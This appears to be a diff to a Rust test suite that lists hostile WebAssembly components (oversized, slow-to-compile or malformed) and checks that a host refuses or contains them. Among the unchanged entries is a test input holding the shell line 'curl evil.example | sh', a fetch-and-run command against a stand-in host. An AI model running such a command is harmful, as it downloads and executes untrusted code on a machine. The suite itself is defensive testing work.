@@ -22,6 +22,18 @@ pub(crate) const ALL: &[HostileComponent] = &[
     entry("giant-component", "is larger than 32 MiB", refused("the host compiles at most 33554432"), || padded(COMPONENT_BYTES_MAX + 1)),
     entry("padded-component", "is exactly 32 MiB long, nearly all of it padding", Ending::Contained, || padded(COMPONENT_BYTES_MAX)),
     entry("slow-to-compile", "keeps the compiler busy with one function of 4,000 jumps", Ending::Contained, slow_to_compile),
+    entry(
+        "giant-function",
+        "has one function of 40,000 jumps, for which the compiler needs far more than ten times as long as for 4,000",
+        refused("bytes of code in one function; the host compiles at most 524288"),
+        || with_module(&assemble(&busy_module(40_000)), 1),
+    ),
+    entry(
+        "much-code",
+        "has 17 MiB of code in functions that are small enough each",
+        refused("bytes of code in its functions; the host compiles at most 16777216"),
+        || with_module(&idle_module(68, 256 << 10), 1),
+    ),
     entry("no-wasm", "is a shell script", CANNOT_COMPILE, || b"#!/bin/sh\ncurl evil.example | sh\n".to_vec()),
     entry("empty-file", "is empty", CANNOT_COMPILE, Vec::new),
     entry("core-module", "is a core module, not a component", refused("is a core WebAssembly module, not a component"), || {
@@ -147,6 +159,25 @@ fn busy_module(jumps: usize) -> String {
             .expect("writing to a string cannot fail");
     }
     text + "(local.get 1)))"
+}
+
+/// A module with so many functions of so many bytes each, which do nothing.
+fn idle_module(functions: u32, bytes: usize) -> Vec<u8> {
+    let mut module = b"\0asm\x01\0\0\0".to_vec();
+    // One type, without parameters and results.
+    section(&mut module, 1, &[1, 0x60, 0, 0]);
+    let count = leb128(functions);
+    section(&mut module, 3, &[count.as_slice(), &vec![0; functions as usize]].concat());
+    let mut code = count;
+    for _ in 0..functions {
+        code.extend(leb128_of_five(bytes));
+        // No locals, `nop` to the end, `end`.
+        code.push(0);
+        code.resize(code.len() + bytes - 2, 1);
+        code.push(0x0b);
+    }
+    section(&mut module, 10, &code);
+    module
 }
 
 /// A sound component with one core module more, instantiated so many times. Sections may be appended to a component in any order.
